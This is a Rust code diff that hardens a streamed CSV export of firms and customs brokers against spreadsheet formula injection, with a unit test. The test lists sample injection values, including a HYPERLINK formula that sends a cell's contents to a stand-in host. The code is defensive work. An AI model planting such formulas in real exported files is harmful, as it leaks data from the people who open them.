@@ -2,6 +2,7 @@
 //! that never answered), for an SMS or broker campaign. Streamed a page at a time, so a
 //! 200,000-row export holds one page in memory.
 
+use std::borrow::Cow;
 use std::sync::Arc;
 
 use axum::body::{Body, Bytes};
@@ -172,19 +173,22 @@ async fn next_page(cursor: &mut Cursor) -> AppResult<Bytes> {
             .map(Vec::as_slice)
             .unwrap_or_default();
         let broker_usccs: Vec<&str> = firm_brokers.iter().map(|b| b.uscc.as_str()).collect();
-        let broker_names: Vec<&str> = firm_brokers.iter().map(|b| b.name.as_str()).collect();
+        let broker_names: Vec<String> = firm_brokers
+            .iter()
+            .map(|b| cell(&b.name).replace(LIST_SEPARATOR, "；"))
+            .collect();
         let prefecture = firm.prefecture.clone().unwrap_or_default();
         out.write_record([
             firm.uscc.as_str(),
-            &firm.name,
+            &cell(&firm.name),
             &firm.region,
             &name_of(&firm.region),
             &prefecture,
             &name_of(&prefecture),
             firm.size.as_deref().unwrap_or_default(),
             firm.customs_code.as_deref().unwrap_or_default(),
-            &broker_usccs.join(";"),
-            &broker_names.join(";"),
+            &broker_usccs.join(LIST_SEPARATOR),
+            &broker_names.join(LIST_SEPARATOR),
         ])
         .map_err(AppError::internal)?;
     }
@@ -193,6 +197,19 @@ async fn next_page(cursor: &mut Cursor) -> AppResult<Bytes> {
         out.into_inner()
             .map_err(|e| AppError::internal_msg(e.to_string()))?,
     ))
+}
+
+/// Joins the brokers of a firm within one cell; a name containing it gets the full-width `；`.
+const LIST_SEPARATOR: &str = ";";
+
+/// Free text as a spreadsheet cell: text a spreadsheet program would run as a formula (starting
+/// with `=`, `+`, `-`, `@`, tab or carriage return) gets a leading `'`, so it shows as text.
+fn cell(text: &str) -> Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
 }
 
 fn error_response(err: AppError) -> Response {
@@ -208,4 +225,30 @@ fn error_response(err: AppError) -> Response {
     }
     let body = serde_json::json!({"errors": [{"message": err.to_string(), "extensions": {"code": err.code()}}]});
     (status, axum::Json(body)).into_response()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::cell;
+
+    #[test]
+    fn formulas_become_text_and_plain_names_stay_as_they_are() {
+        for formula in [
+            "=HYPERLINK(\"http://x/?\"&A1,\"Click\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(cell(formula), format!("'{formula}"));
+        }
+        for plain in [
+            "深圳市海运通报关有限公司",
+            "Acme Trading (HK) Ltd.",
+            "3M China",
+        ] {
+            assert_eq!(cell(plain), plain);
+        }
+    }
 }
